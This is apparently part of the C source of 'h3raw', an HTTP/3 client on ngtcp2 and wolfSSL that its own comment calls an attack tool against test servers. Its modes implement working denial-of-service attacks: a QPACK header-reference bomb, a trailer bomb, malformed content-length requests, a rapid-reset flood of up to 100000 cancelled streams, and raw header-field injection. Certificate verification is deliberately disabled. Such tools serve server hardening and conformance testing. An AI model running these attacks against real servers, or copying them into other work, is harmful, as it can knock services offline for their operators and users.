 * cb_log - ngtcp2's frame log, read for one line only: a STOP_SENDING the
 * server sent. ngtcp2 1.11 has no callback for it (its stream_stop_sending
 * reports our own STOP_SENDING), so the format string is matched first
 * (no formatting for any other line), then the line is parsed:
 * "I... 0xSCID frm rx PKN 1RTT STOP_SENDING(0x05) id=0xID app_error_code=NAME(0xCODE)"
 */
static void cb_log(void *user_data, const char *fmt, ...)
{
    struct run *r = user_data;
    struct req *rq;
    char line[512];
    const char *p;
    uint64_t id, code;
    va_list ap;

    if (strstr(fmt, " STOP_SENDING(") == NULL)
        return;
    va_start(ap, fmt);
    vsnprintf(line, sizeof(line), fmt, ap);
    va_end(ap);
    if (strstr(line, " frm rx ") == NULL || (p = strstr(line, " STOP_SENDING(")) == NULL ||
        sscanf(p, " STOP_SENDING(0x%*x) id=0x%" SCNx64, &id) != 1 ||
        (p = strrchr(line, '(')) == NULL || sscanf(p, "(0x%" SCNx64 ")", &code) != 1)
        return;
    rq = req_of(r, (int64_t)id);
    if (rq != NULL) {
        if (rq->is_stop_seen)
            return; /* a retransmission */
        rq->is_stop_seen = true;
        rq->tx.is_closed = true; /* ngtcp2 resets our side */
        req_answered(r, rq);
    }
    printf("stop_sending stream=%" PRIu64 " code=0x%" PRIx64 "\n", id, code);
    r->stop_count++;
}

/* cb_extend_max_stream_data - the server raised a stream window */
static int cb_extend_max_stream_data(ngtcp2_conn *qc, int64_t id, uint64_t max_data,
                                     void *user_data, void *stream_user_data)
{
    struct run *r = user_data;
    struct req *rq = req_of(r, id);
    struct txs *u = uni_of(r, id);

    (void)qc;
    (void)max_data;
    (void)stream_user_data;
    if (rq != NULL)
        rq->tx.is_blocked = false;
    if (u != NULL)
        u->is_blocked = false;
    return 0;
}

/* cb_stateless_reset - the server forgot us */
static int cb_stateless_reset(ngtcp2_conn *qc, const ngtcp2_pkt_stateless_reset *sr,
                              void *user_data)
{
    struct run *r = user_data;

    (void)qc;
    (void)sr;
    r->is_stateless_reset = true;
    return 0;
}

static const ngtcp2_callbacks qc_callbacks = {
    .client_initial = ngtcp2_crypto_client_initial_cb,
    .recv_crypto_data = ngtcp2_crypto_recv_crypto_data_cb,
    .handshake_completed = cb_handshake_completed,
    .encrypt = ngtcp2_crypto_encrypt_cb,
    .decrypt = ngtcp2_crypto_decrypt_cb,
    .hp_mask = ngtcp2_crypto_hp_mask_cb,
    .recv_stream_data = cb_recv_stream_data,
    .stream_close = cb_stream_close,
    .recv_stateless_reset = cb_stateless_reset,
    .recv_retry = ngtcp2_crypto_recv_retry_cb,
    .rand = cb_rand,
    .get_new_connection_id = cb_new_cid,
    .update_key = ngtcp2_crypto_update_key_cb,
    .stream_reset = cb_stream_reset,
    .extend_max_stream_data = cb_extend_max_stream_data,
    .delete_crypto_aead_ctx = ngtcp2_crypto_delete_crypto_aead_ctx_cb,
    .delete_crypto_cipher_ctx = ngtcp2_crypto_delete_crypto_cipher_ctx_cb,
    .get_path_challenge_data = ngtcp2_crypto_get_path_challenge_data_cb,
    .version_negotiation = ngtcp2_crypto_version_negotiation_cb,
};

/* ------------------------------------------------------------ setup */

/* tls_init - client context and the one session: no verification, ALPN h3, SNI */
static void tls_init(struct run *r)
{
    static char alpn[] = "h3";

    if (wolfSSL_Init() != WOLFSSL_SUCCESS)
        die("wolfSSL_Init failed");
    r->ssl_ctx = wolfSSL_CTX_new(wolfTLSv1_3_client_method());
    if (r->ssl_ctx == NULL)
        die("wolfSSL_CTX_new: %s", wolfSSL_ERR_error_string(wolfSSL_ERR_get_error(), NULL));
    if (ngtcp2_crypto_wolfssl_configure_client_context(r->ssl_ctx) != 0)
        die("ngtcp2_crypto_wolfssl_configure_client_context failed");
    /* An attack tool against test servers: no certificate check. */
    wolfSSL_CTX_set_verify(r->ssl_ctx, WOLFSSL_VERIFY_NONE, NULL);
    wolfSSL_CTX_set_session_cache_mode(r->ssl_ctx, WOLFSSL_SESS_CACHE_OFF);
    if ((r->ssl = wolfSSL_new(r->ssl_ctx)) == NULL)
        die("wolfSSL_new: %s", wolfSSL_ERR_error_string(wolfSSL_ERR_get_error(), NULL));
    wolfSSL_set_app_data(r->ssl, &r->conn_ref);
    wolfSSL_set_connect_state(r->ssl);
    if (wolfSSL_UseALPN(r->ssl, alpn, sizeof(alpn) - 1, WOLFSSL_ALPN_FAILED_ON_MISMATCH) !=
        WOLFSSL_SUCCESS)
        die("wolfSSL_UseALPN failed");
    if (r->o.sni[0] != '\0' && wolfSSL_UseSNI(r->ssl, WOLFSSL_SNI_HOST_NAME, r->o.sni,
                                              (unsigned short)strlen(r->o.sni)) != WOLFSSL_SUCCESS)
        die("wolfSSL_UseSNI failed");
    /* 0x39: the QUIC v1 transport-parameters extension */
    wolfSSL_set_quic_transport_version(r->ssl, 0x39);
}

/* sock_init - a connected, non-blocking UDP socket to the server */
static void sock_init(struct run *r)
{
    struct addrinfo hints = {.ai_family = AF_UNSPEC, .ai_socktype = SOCK_DGRAM};
    struct addrinfo *res;
    socklen_t len = sizeof(r->local);
    int bufsize = 4 << 20;
    int rv = getaddrinfo(r->o.host, r->o.port, &hints, &res);

    if (rv != 0)
        die("%s: %s", r->o.host, gai_strerror(rv));
    memcpy(&r->remote, res->ai_addr, res->ai_addrlen);
    r->remote_len = res->ai_addrlen;
    freeaddrinfo(res);
    r->fd = socket(r->remote.ss_family, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, IPPROTO_UDP);
    if (r->fd < 0)
        die("socket: %s", strerror(errno));
    (void)setsockopt(r->fd, SOL_SOCKET, SO_RCVBUF, &bufsize, sizeof(bufsize));
    (void)setsockopt(r->fd, SOL_SOCKET, SO_SNDBUF, &bufsize, sizeof(bufsize));
    if (connect(r->fd, (struct sockaddr *)&r->remote, r->remote_len) != 0 ||
        getsockname(r->fd, (struct sockaddr *)&r->local, &len) != 0)
        die("connect: %s", strerror(errno));
    r->path.local.addr = (ngtcp2_sockaddr *)&r->local;
    r->path.local.addrlen = len;
    r->path.remote.addr = (ngtcp2_sockaddr *)&r->remote;
    r->path.remote.addrlen = r->remote_len;
}

/* conn_init - the ngtcp2 client connection */
static void conn_init(struct run *r)
{
    ngtcp2_settings settings;
    ngtcp2_transport_params params;
    ngtcp2_cid dcid, scid;
    int rv;

    dcid.datalen = 18;
    rng_fill(r, dcid.data, dcid.datalen);
    scid.datalen = 17;
    rng_fill(r, scid.data, scid.datalen);
    ngtcp2_settings_default(&settings);
    settings.initial_ts = now_ns();
    settings.rand_ctx.native_handle = r;
    settings.no_pmtud = 1;
    settings.log_printf = cb_log; /* for STOP_SENDING only, see cb_log */

    ngtcp2_transport_params_default(&params);
    params.initial_max_stream_data_bidi_local = 1 << 20;
    params.initial_max_stream_data_uni = 1 << 20;
    params.initial_max_data = 16 << 20;
    params.initial_max_streams_uni = 3;
    params.max_idle_timeout = (uint64_t)((r->o.timeout_s + 10) * 1e9);

    r->conn_ref.get_conn = cb_get_conn;
    r->conn_ref.user_data = r;
    rv = ngtcp2_conn_client_new(&r->qc, &dcid, &scid, &r->path, NGTCP2_PROTO_VER_V1, &qc_callbacks,
                                &settings, &params, NULL, r);
    if (rv != 0)
        die("ngtcp2_conn_client_new: %s", ngtcp2_strerror(rv));
    ngtcp2_conn_set_tls_native_handle(r->qc, r->ssl);
}

/* ------------------------------------------------------------ HTTP/3 streams */

/* fail - a local error: log it, close the connection with |rv|'s code */
static void fail(struct run *r, const char *what, int rv)
{
    warn("%s: %s", what, ngtcp2_strerror(rv));
    if (!r->is_failed)
        ngtcp2_ccerr_set_liberr(&r->local_err, rv, NULL, 0);
    r->is_failed = true;
}

/* start_h3 - open control, QPACK encoder and decoder streams */
static void start_h3(struct run *r)
{
    const struct blob *src[3] = {&r->ctrl, &r->enc, &r->dec};
    int rv;

    r->is_started = true;
    if (ngtcp2_conn_get_streams_uni_left(r->qc) < 3)
        warn("the server allows %" PRIu64 " unidirectional streams, not 3",
             ngtcp2_conn_get_streams_uni_left(r->qc));
    for (size_t i = 0; i < 3; i++) {
        if ((rv = ngtcp2_conn_open_uni_stream(r->qc, &r->uni[i].id, NULL)) != 0) {
            fail(r, "ngtcp2_conn_open_uni_stream", rv);
            return;
        }
        r->uni[i].src = src[i];
    }
}

/* open_requests - open request streams while the server's MAX_STREAMS allows */
static void open_requests(struct run *r)
{
    while (r->opened_count < r->o.count && !r->is_failed) {
        struct req *rq = &r->reqs[r->opened_count];
        int64_t id;
        int rv = ngtcp2_conn_open_bidi_stream(r->qc, &id, NULL);

        if (rv == NGTCP2_ERR_STREAM_ID_BLOCKED)
            return;
        if (rv != 0) {
            fail(r, "ngtcp2_conn_open_bidi_stream", rv);
            return;
        }
        if (id != (int64_t)r->opened_count * 4) {
            warn("stream id %" PRId64 " out of sequence", id);
            fail(r, "ngtcp2_conn_open_bidi_stream", NGTCP2_ERR_INTERNAL);
            return;
        }
        rq->tx.id = id;
        rq->tx.src = &r->request;
        rq->tx.is_fin = true;
        r->opened_count++;
    }
}

/* tx_pending - |t| has bytes (or its FIN) to hand to ngtcp2 */
static bool tx_pending(const struct txs *t)
{
    return t->src != NULL && !t->is_sent && !t->is_closed && !t->is_blocked;
}

/* tx_next - the next stream with something to send, NULL if none */
static struct txs *tx_next(struct run *r)
{
    for (size_t i = 0; i < 3; i++)
        if (tx_pending(&r->uni[i]))
            return &r->uni[i];
    while (r->tx_cursor < r->opened_count &&
           (r->reqs[r->tx_cursor].tx.is_sent || r->reqs[r->tx_cursor].tx.is_closed))
        r->tx_cursor++;
    for (size_t i = r->tx_cursor; i < r->opened_count; i++)
        if (tx_pending(&r->reqs[i].tx))
            return &r->reqs[i].tx;
    return NULL;
}

/* tx_advance - ngtcp2 took |n| bytes of |t| (and its FIN once all are taken) */
static void tx_advance(struct txs *t, size_t n)
{
    t->off += n;
    if (t->off == t->src->len)
        t->is_sent = true; /* a uni stream stays open: no FIN */
}

/* ------------------------------------------------------------ I/O */

/* send_pkt - one datagram; a full socket buffer is a loss for QUIC to repair */
static int send_pkt(struct run *r, const uint8_t *p, size_t n)
{
    for (;;) {
        if (send(r->fd, p, n, 0) >= 0)
            return 0;
        if (errno == EINTR)
            continue;
        if (errno == EAGAIN || errno == EWOULDBLOCK || errno == ENOBUFS)
            return 0;
        warn("send: %s", strerror(errno));
        r->is_failed = true;
        return -1;
    }
}

/*
 * write_step - one ngtcp2_conn_writev_stream call offering |t| (or no
 * stream); returns the packet length, 0 when nothing more can go now, -1
 * on error, or -2 to call again (WRITE_MORE or a stream that cannot take
 * data)
 */
static ngtcp2_ssize write_step(struct run *r, struct txs *t, uint64_t now)
{
    ngtcp2_vec vec;
    ngtcp2_ssize nw, ndatalen = -1;
    uint32_t flags = NGTCP2_WRITE_STREAM_FLAG_MORE;
    size_t maxlen = ngtcp2_conn_get_max_tx_udp_payload_size(r->qc);

    if (t != NULL) {
        vec.base = t->src->data + t->off;
        vec.len = t->src->len - t->off;
        if (t->is_fin)
            flags |= NGTCP2_WRITE_STREAM_FLAG_FIN;
    }
    nw = ngtcp2_conn_writev_stream(r->qc, NULL, NULL, r->txbuf, maxlen, &ndatalen, flags,
                                   t ? t->id : -1, t ? &vec : NULL, t ? 1 : 0, now);
    if (t != NULL && ndatalen >= 0)
        tx_advance(t, (size_t)ndatalen);
    switch (nw) {
    case NGTCP2_ERR_WRITE_MORE:
        return -2;
    case NGTCP2_ERR_STREAM_DATA_BLOCKED:
        t->is_blocked = true;
        return -2;
    case NGTCP2_ERR_STREAM_SHUT_WR:
    case NGTCP2_ERR_STREAM_NOT_FOUND:
        t->is_closed = true;
        return -2;
    }
    if (nw < 0) {
        fail(r, "ngtcp2_conn_writev_stream", (int)nw);
        return -1;
    }
    return nw;
}

/* write_pkts - let ngtcp2 fill and send datagrams until it has nothing (or cwnd/pacing) */
static void write_pkts(struct run *r, uint64_t now)
{
    size_t sent = 0, quantum = ngtcp2_conn_get_send_quantum(r->qc);

    for (;;) {
        struct txs *t = NULL;
        ngtcp2_ssize nw;

        if (r->is_started && ngtcp2_conn_get_max_data_left(r->qc) > 0)
            t = tx_next(r);
        nw = write_step(r, t, now);
        if (nw == -2)
            continue;
        if (nw <= 0 || send_pkt(r, r->txbuf, (size_t)nw) != 0)
            break;
        sent += (size_t)nw;
        if (sent >= quantum)
            break;
    }
    ngtcp2_conn_update_pkt_tx_time(r->qc, now);
}

/*
 * cancel_sent - rapidreset: every request whose HEADERS and FIN went out
 * is cancelled at once, RESET_STREAM + STOP_SENDING (H3_REQUEST_CANCELLED)
 */
static void cancel_sent(struct run *r)
{
    for (size_t i = r->cancel_cursor; i < r->opened_count; i++) {
        struct req *rq = &r->reqs[i];

        if (!rq->tx.is_sent && !rq->tx.is_closed)
            break;
        if (!rq->is_cancel_sent && !rq->tx.is_closed)
            (void)ngtcp2_conn_shutdown_stream(r->qc, 0, rq->tx.id, H3_REQUEST_CANCELLED);
        rq->is_cancel_sent = true;
        r->cancel_cursor = i + 1;
    }
}

/* on_read_error - what an ngtcp2_conn_read_pkt failure means for the run */
static void on_read_error(struct run *r, int rv)
{
    const ngtcp2_ccerr *pe;
    size_t n;

    switch (rv) {
    case NGTCP2_ERR_DRAINING:
        r->is_draining = true;
        pe = ngtcp2_conn_get_ccerr(r->qc);
        r->peer_err = *pe;
        n = pe->reasonlen < sizeof(r->peer_reason) - 1 ? pe->reasonlen : sizeof(r->peer_reason) - 1;
        for (size_t i = 0; i < n; i++)
            r->peer_reason[i] =
                pe->reason[i] >= 0x20 && pe->reason[i] < 0x7f ? (char)pe->reason[i] : '?';
        r->peer_reason[n] = '\0';
        return;
    case NGTCP2_ERR_CRYPTO:
        warn("TLS handshake failed: alert %u", ngtcp2_conn_get_tls_alert(r->qc));
        ngtcp2_ccerr_set_tls_alert(&r->local_err, ngtcp2_conn_get_tls_alert(r->qc), NULL, 0);
        r->is_failed = true;
        return;
    case NGTCP2_ERR_DROP_CONN:
        warn("ngtcp2_conn_read_pkt: %s", ngtcp2_strerror(rv));
        r->is_failed = true;
        r->is_no_close = true;
        return;
    default:
        fail(r, "ngtcp2_conn_read_pkt", rv);
    }
}

/* read_pkts - drain the socket into ngtcp2 (bounded, so ACKs go out) */
static void read_pkts(struct run *r)
{
    ngtcp2_pkt_info pi = {0};

    for (int i = 0; i < RX_BATCH && !r->is_draining && !r->is_failed; i++) {
        ssize_t n = recv(r->fd, r->rxbuf, sizeof(r->rxbuf), 0);
        int rv;

        if (n < 0) {
            if (errno == EINTR)
                continue;
            if (errno == EAGAIN || errno == EWOULDBLOCK)
                return;
            warn("recv: %s%s", strerror(errno),
                 errno == ECONNREFUSED ? " (no server on that port?)" : "");
            r->is_failed = true;
            r->is_no_close = true;
            return;
        }
        rv = ngtcp2_conn_read_pkt(r->qc, &r->path, &pi, r->rxbuf, (size_t)n, now_ns());
        if (rv != 0)
            on_read_error(r, rv);
    }
}

/* on_expiry - ngtcp2's loss, ACK, pacing or idle timer */
static void on_expiry(struct run *r, uint64_t now)
{
    int rv;

    if (ngtcp2_conn_get_expiry(r->qc) > now)
        return;
    rv = ngtcp2_conn_handle_expiry(r->qc, now);
    if (rv == NGTCP2_ERR_IDLE_CLOSE) {
        warn("idle timeout: the connection is gone");
        r->is_idle_closed = true;
    } else if (rv != 0) {
        fail(r, "ngtcp2_conn_handle_expiry", rv);
    }
}

/* progress - after reads or timers: start HTTP/3, open, write, cancel, write */
static void progress(struct run *r, uint64_t now)
{
    if (r->is_handshake_done && !r->is_started)
        start_h3(r);
    if (r->is_started)
        open_requests(r);
    if (r->is_failed)
        return;
    write_pkts(r, now);
    if (r->o.mode == MODE_RAPIDRESET && r->cancel_cursor < r->opened_count) {
        cancel_sent(r);
        write_pkts(r, now);
    }
    if (r->wait_end_ns == 0 && r->answered_count == r->o.count)
        r->wait_end_ns = now + (uint64_t)(r->o.wait_s * 1e9);
}

/* is_over - the run ends now (closed, failed, answered and waited, timed out) */
static bool is_over(struct run *r, uint64_t now)
{
    if (r->is_draining || r->is_failed || r->is_idle_closed || got_signal)
        return true;
    if (r->wait_end_ns != 0 && now >= r->wait_end_ns)
        return true;
    if (now >= r->end_ns) {
        r->is_timeout = true;
        return true;
    }
    return false;
}

/* wait_ready - ppoll until the socket is readable or |deadline| */
static void wait_ready(struct run *r, uint64_t deadline, uint64_t now)
{
    uint64_t d = deadline > now ? deadline - now : 0;
    struct timespec ts = {.tv_sec = (time_t)(d / SEC_NS), .tv_nsec = (long)(d % SEC_NS)};
    struct pollfd pfd = {.fd = r->fd, .events = POLLIN};

    if (ppoll(&pfd, 1, &ts, NULL) < 0 && errno != EINTR)
        die("ppoll: %s", strerror(errno));
}

/* run_loop - the one event loop */
static void run_loop(struct run *r)
{
    progress(r, now_ns());
    for (;;) {
        uint64_t now = now_ns(), wake = r->end_ns, exp;

        if (is_over(r, now))
            return;
        exp = ngtcp2_conn_get_expiry(r->qc);
        if (exp < wake)
            wake = exp;
        if (r->wait_end_ns != 0 && r->wait_end_ns < wake)
            wake = r->wait_end_ns;
        wait_ready(r, wake, now);
        read_pkts(r);
        now = now_ns();
        if (!r->is_draining && !r->is_failed)
            on_expiry(r, now);
        if (!r->is_draining && !r->is_failed && !r->is_idle_closed)
            progress(r, now);
    }
}

/* close_conn - our CONNECTION_CLOSE: H3_NO_ERROR, or the local error */
static void close_conn(struct run *r)
{
    ngtcp2_ccerr err;
    ngtcp2_ssize n;

    if (r->is_draining || r->is_no_close || r->is_idle_closed ||
        ngtcp2_conn_in_closing_period(r->qc) || ngtcp2_conn_in_draining_period(r->qc))
        return;
    if (r->is_failed) {
        err = r->local_err;
    } else {
        ngtcp2_ccerr_default(&err);
        if (r->is_handshake_done)
            ngtcp2_ccerr_set_application_error(&err, H3_NO_ERROR, NULL, 0);
    }
    n = ngtcp2_conn_write_connection_close(r->qc, NULL, NULL, r->txbuf, sizeof(r->txbuf), &err,
                                           now_ns());
    if (n > 0)
        (void)send_pkt(r, r->txbuf, (size_t)n);
}

/* report - the summary lines */
static void report(struct run *r)
{
    printf("requests=%zu responses=%zu resets=%zu\n", r->opened_count, r->response_count,
           r->reset_count);
    printf("answered=%zu stop_sendings=%zu secs=%.2f timeout=%s\n", r->answered_count,
           r->stop_count, (double)(now_ns() - r->start_ns) / 1e9, r->is_timeout ? "yes" : "no");
    if (r->is_stateless_reset)
        printf("close=stateless-reset app=no reason=\n");
    else if (r->is_draining)
        printf("close=0x%" PRIx64 " app=%s reason=%s\n", r->peer_err.error_code,
               r->peer_err.type == NGTCP2_CCERR_TYPE_APPLICATION ? "yes" : "no", r->peer_reason);
    else
        printf("closed=no\n");
    printf("handshake=%s\n", r->is_handshake_done ? "ok" : "failed");
}

/* ------------------------------------------------------------ command line */

/* usage - the command line, to |f| */
static void usage(FILE *f)
{
    fputs("usage: h3raw [--host ADDR] --port PORT [--sni NAME] [--timeout SECS] [--wait SECS]\n"
          "             MODE [ARGS]\n"
          "modes:\n"
          "  get PATH                             one GET PATH (a sanity check)\n"
          "  qpackbomb N [--refs K] [--size S]    the encoder stream inserts x-bomb: S bytes\n"
          "                                       (default 4000); then N GET / whose HEADERS\n"
          "                                       reference it K times (default 4000)\n"
          "  trailerbomb N [--refs K] [--size S]  the same entry; N POST /api/echo: HEADERS,\n"
          "                                       5 body bytes, trailers of K references\n"
          "  lengthreset N                        N POST /api/echo with content-length: 1 and\n"
          "                                       2 body bytes (malformed: to be reset)\n"
          "  rapidreset N                         N GET /, each cancelled as soon as it is sent\n"
          "                                       (RESET_STREAM + STOP_SENDING, 0x10c)\n"
          "  fields [--method M] [--path P] [--authority A] [--no-authority] FIELD...\n"
          "                                       one request, every field line literal with\n"
          "                                       a literal name, no Huffman: :method M (GET),\n"
          "                                       :scheme https, :authority A (the SNI; none\n"
          "                                       with --no-authority), :path P (/), then each\n"
          "                                       FIELD, NAME:VALUE split at the first ':'\n"
          "                                       after the first character; then FIN. NAME,\n"
          "                                       VALUE, M, P and A take the escapes \\xNN \\r\n"
          "                                       \\n \\t \\0 \\\\\n"
          "options:\n"
          "  --host ADDR     server address (default 127.0.0.1)\n"
          "  --port PORT     server UDP port\n"
          "  --sni NAME      TLS SNI and :authority (default localhost; '' for no SNI);\n"
          "                  the certificate is not verified\n"
          "  --timeout SECS  bound of the whole run (default 20)\n"
          "  --wait SECS     after every request is answered, keep reading this long for\n"
          "                  a CONNECTION_CLOSE (default 2)\n"
          "N is at most 100000 requests, opened as the server's MAX_STREAMS allows.\n"
          "Prints \"status=NNN stream=ID\", \"reset stream=ID code=0xHEX\",\n"
          "\"stop_sending stream=ID code=0xHEX\", \"goaway id=N\" as they come, then\n"
          "\"requests=N responses=R resets=S\", \"answered=A stop_sendings=P secs=T\n"
          "timeout=yes|no\", \"close=0xCODE app=yes|no reason=TEXT\" or \"closed=no\", and\n"
          "\"handshake=ok|failed\". Exit 0 if the handshake completed, 1 if not, 2 on usage.\n",
          f);
}

/* usage_error - a usage message and exit 2 */
static void usage_error(const char *fmt, ...)
{
    va_list ap;

    fputs("h3raw: ", stderr);
    va_start(ap, fmt);
    vfprintf(stderr, fmt, ap);
    va_end(ap);
    fputc('\n', stderr);
    usage(stderr);
    exit(2);
}

/* parse_size - a decimal integer in [lo, hi] or a usage error */
static size_t parse_size(const char *what, const char *s, size_t lo, size_t hi)
{
    char *e;
    unsigned long long v;

    errno = 0;
    v = strtoull(s, &e, 10);
    if (errno != 0 || *e != '\0' || s[0] < '0' || s[0] > '9' || v < lo || v > hi)
        usage_error("%s wants an integer in %zu..%zu, not '%s'", what, lo, hi, s);
    return (size_t)v;
}

/* parse_secs - seconds in [0, 3600] (or (0, 3600] if !|is_zero_ok|) */
static double parse_secs(const char *what, const char *s, bool is_zero_ok)
{
    char *e;
    double v = strtod(s, &e);

    if (*e != '\0' || e == s || !(v >= 0) || v > 3600 || (!is_zero_ok && v == 0))
        usage_error("%s wants seconds in %s0, 3600], not '%s'", what, is_zero_ok ? "[" : "(", s);
    return v;
}

/* hex_digit - the value of hex digit |c|, -1 if not one */
static int hex_digit(char c)
{
    if (c >= '0' && c <= '9')
        return c - '0';
    if (c >= 'a' && c <= 'f')
        return c - 'a' + 10;
    if (c >= 'A' && c <= 'F')
        return c - 'A' + 10;
    return -1;
}

/*
 * unescape - append the |n| bytes at |s| to |out|, with \xNN \r \n \t
 * \0 \\ replaced by the byte they stand for; a usage error on another
 * escape (|what| names the argument)
 */
static void unescape(const char *what, const char *s, size_t n, struct blob *out)
{
    for (size_t i = 0; i < n; i++) {
        int hi, lo;

        if (s[i] != '\\') {
            blob_byte(out, (uint8_t)s[i]);
            continue;
        }
        if (++i == n)
            usage_error("%s ends with a lone \\", what);
        switch (s[i]) {
        case 'r':
            blob_byte(out, '\r');
            break;
        case 'n':
            blob_byte(out, '\n');
            break;
        case 't':
            blob_byte(out, '\t');
            break;
        case '0':
            blob_byte(out, 0);
            break;
        case '\\':
            blob_byte(out, '\\');
            break;
        case 'x':
            if (n - i < 3 || (hi = hex_digit(s[i + 1])) < 0 || (lo = hex_digit(s[i + 2])) < 0)
                usage_error("%s: \\x wants two hex digits", what);
            blob_byte(out, (uint8_t)(hi << 4 | lo));
            i += 2;
            break;
        default:
            usage_error("%s: unknown escape \\%c", what, s[i]);
        }
    }
}

/* field_add - append the field NAME: VALUE (both unescaped) to |o| */
static void field_add(struct opts *o, const char *what, const char *name, size_t name_len,
                      const char *value)
{
    struct hfield *h;

    h = realloc(o->fields, (o->field_count + 1) * sizeof(*o->fields));
    if (h == NULL)
        die("out of memory");
    o->fields = h;
    h = &o->fields[o->field_count++];
    memset(h, 0, sizeof(*h));
    unescape(what, name, name_len, &h->name);
    unescape(what, value, strlen(value), &h->value);
}

/* authority_of - fields: --authority, else the SNI, else localhost (as get) */
static const char *authority_of(const struct opts *o)
{
    if (o->authority != NULL)
        return o->authority;
    return o->sni[0] != '\0' ? o->sni : "localhost";
}

/*
 * parse_fields - fields: the pseudo-header fields, then each FIELD
 * (NAME:VALUE, split at the first ':' after the first character)
 */
static void parse_fields(struct opts *o, int n, char **arg)
{
    const char *sep;

    if (o->authority != NULL && o->is_no_authority)
        usage_error("--authority and --no-authority exclude each other");
    field_add(o, "--method", ":method", 7, o->method ? o->method : "GET");
    field_add(o, ":scheme", ":scheme", 7, "https");
    if (!o->is_no_authority)
        field_add(o, "--authority", ":authority", 10, authority_of(o));
    field_add(o, "--path", ":path", 5, o->fpath ? o->fpath : "/");
    for (int i = 0; i < n; i++) {
        if (arg[i][0] == '\0' || (sep = strchr(arg[i] + 1, ':')) == NULL)
            usage_error("FIELD wants NAME:VALUE, not '%s'", arg[i]);
        field_add(o, arg[i], arg[i], (size_t)(sep - arg[i]), sep + 1);
    }
}

/* parse_mode - MODE [ARG] from the operands left after the options */
static void parse_mode(struct opts *o, int n, char **arg)
{
    static const struct {
        const char *name;
        enum mode mode;
    } modes[] = {{"get", MODE_GET},
                 {"qpackbomb", MODE_QPACKBOMB},
                 {"trailerbomb", MODE_TRAILERBOMB},
                 {"lengthreset", MODE_LENGTHRESET},
                 {"rapidreset", MODE_RAPIDRESET},
                 {"fields", MODE_FIELDS}};
    size_t i;

    if (n < 1)
        usage_error("want MODE");
    for (i = 0; i < sizeof(modes) / sizeof(modes[0]); i++)
        if (strcmp(arg[0], modes[i].name) == 0)
            break;
    if (i == sizeof(modes) / sizeof(modes[0]))
        usage_error("unknown mode '%s'", arg[0]);
    o->mode = modes[i].mode;
    if (o->mode != MODE_FIELDS && (o->method || o->fpath || o->authority || o->is_no_authority))
        usage_error("--method, --path, --authority and --no-authority go with fields only");
    if (o->mode == MODE_FIELDS) {
        parse_fields(o, n - 1, arg + 1);
        o->count = 1;
        return;
    }
    if (n != 2)
        usage_error("want MODE and one argument");
    if (o->mode == MODE_GET) {
        if (arg[1][0] != '/')
            usage_error("get wants a PATH starting with /");
        o->path = arg[1];
        o->count = 1;
    } else {
        o->count = parse_size(arg[0], arg[1], 1, MAX_REQUESTS);
    }
    if ((o->has_refs || o->has_size) && o->mode != MODE_QPACKBOMB && o->mode != MODE_TRAILERBOMB)
        usage_error("--refs and --size go with qpackbomb and trailerbomb only");
}

/* parse_args - argv to |o|; exits 2 on a usage error, 0 on --help */
static void parse_args(struct opts *o, int argc, char **argv)
{
    static const struct option longopts[] = {{"host", required_argument, NULL, 'H'},
                                             {"port", required_argument, NULL, 'p'},
                                             {"sni", required_argument, NULL, 's'},
                                             {"timeout", required_argument, NULL, 't'},
                                             {"wait", required_argument, NULL, 'w'},
                                             {"refs", required_argument, NULL, 'k'},
                                             {"size", required_argument, NULL, 'S'},
                                             {"method", required_argument, NULL, 'm'},
                                             {"path", required_argument, NULL, 'P'},
                                             {"authority", required_argument, NULL, 'a'},
                                             {"no-authority", no_argument, NULL, 'n'},
                                             {"help", no_argument, NULL, 'h'},
                                             {NULL, 0, NULL, 0}};
    int ch;

    *o = (struct opts){.host = "127.0.0.1",
                       .sni = "localhost",
                       .timeout_s = 20,
                       .wait_s = 2,
                       .refs = 4000,
                       .size = 4000};
    while ((ch = getopt_long(argc, argv, "h", longopts, NULL)) != -1) {
        switch (ch) {
        case 'H':
            o->host = optarg;
            break;
        case 'p':
            parse_size("--port", optarg, 1, 65535);
            o->port = optarg;
            break;
        case 's':
            o->sni = optarg;
            break;
        case 't':
            o->timeout_s = parse_secs("--timeout", optarg, false);
            break;
        case 'w':
            o->wait_s = parse_secs("--wait", optarg, true);
            break;
        case 'k':
            o->refs = parse_size("--refs", optarg, 1, MAX_REFS);
            o->has_refs = true;
            break;
        case 'S':
            o->size = parse_size("--size", optarg, 0, MAX_SIZE);
            o->has_size = true;
            break;
        case 'm':
            o->method = optarg;
            break;
        case 'P':
            o->fpath = optarg;
            break;
        case 'a':
            o->authority = optarg;
            break;
        case 'n':
            o->is_no_authority = true;
            break;
        case 'h':
            usage(stdout);
            exit(0);
        default:
            usage(stderr);
            exit(2);
        }
    }
    if (o->port == NULL)
        usage_error("--port is required");
    parse_mode(o, argc - optind, argv + optind);
}

/* on_signal - SIGINT/SIGTERM: stop and report */
static void on_signal(int sig)
{
    (void)sig;
    got_signal = 1;
}

int main(int argc, char **argv)
{
    static struct run r; /* large buffers: not on the stack */
    struct sigaction sa = {.sa_handler = on_signal};

    parse_args(&r.o, argc, argv);
    setvbuf(stdout, NULL, _IOLBF, 0);
    sigemptyset(&sa.sa_mask);
    sigaction(SIGINT, &sa, NULL);
    sigaction(SIGTERM, &sa, NULL);
    huff_init();
    if (getrandom(&r.rng, sizeof(r.rng), 0) != (ssize_t)sizeof(r.rng) || r.rng == 0)
        r.rng = now_ns() | 1;
    if ((r.reqs = calloc(r.o.count, sizeof(*r.reqs))) == NULL)
        die("out of memory");
    build_uni(&r);
    build_request(&r);
    ngtcp2_ccerr_default(&r.local_err);
    sock_init(&r);
    tls_init(&r);
    conn_init(&r);

    r.start_ns = now_ns();
    r.end_ns = r.start_ns + (uint64_t)(r.o.timeout_s * 1e9);
    run_loop(&r);
    close_conn(&r);
    report(&r);

    ngtcp2_conn_del(r.qc);
    wolfSSL_free(r.ssl);
    wolfSSL_CTX_free(r.ssl_ctx);
    wolfSSL_Cleanup();
    close(r.fd);
    free(r.reqs);
    blob_free(&r.ctrl);
    blob_free(&r.enc);
    blob_free(&r.dec);
    blob_free(&r.request);
    for (size_t i = 0; i < r.o.field_count; i++) {
        blob_free(&r.o.fields[i].name);
        blob_free(&r.o.fields[i].value);
    }
    free(r.o.fields);
    return r.is_handshake_done ? 0 : 1;
}
